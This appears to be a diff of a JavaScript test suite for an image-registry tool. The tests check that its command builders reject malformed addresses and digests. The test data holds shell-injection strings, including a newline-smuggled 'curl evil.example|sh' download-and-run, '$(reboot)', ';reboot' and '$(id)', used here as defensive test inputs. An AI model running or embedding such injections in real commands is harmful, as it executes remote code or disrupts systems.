@@ -55,17 +55,19 @@ describe('commands of the image registry', () => {
         `${address} x`,
         `${address}:-x`,
       ],
-      ...[
-        `${address}\ncurl evil.example|sh`,
-        `${host}/$(reboot)`,
-        `-v/${address}`.replace('/', ' /'),
-      ],
+      ...[`${address}\ncurl evil.example|sh`, `${host}/$(reboot)`, `-v/${address}`, '-pabc/base'],
       ...[`${address}@sha256:cd`, `${host}/base;reboot`],
     ];
     for (const commandsOf of [projectCommands, repositoryCommands, tagCommands]) {
       for (const each of wrong)
         assert.deepEqual(commandsOf({ address: each, digest: 'sha256:ab' }), [], each);
     }
+    for (const commandsOf of [projectCommands, repositoryCommands])
+      assert.deepEqual(
+        commandsOf({ address: `${address}:1.0.0` }),
+        [],
+        'a tag has no images below it',
+      );
     for (const digest of ['ab', 'sha256:ab x', '$&', 'sha256:$(id)'])
       assert.equal(tagCommands({ address, digest }).length, 4, digest);
     assert.deepEqual(said(tagCommands({ address, digest: '' })), [
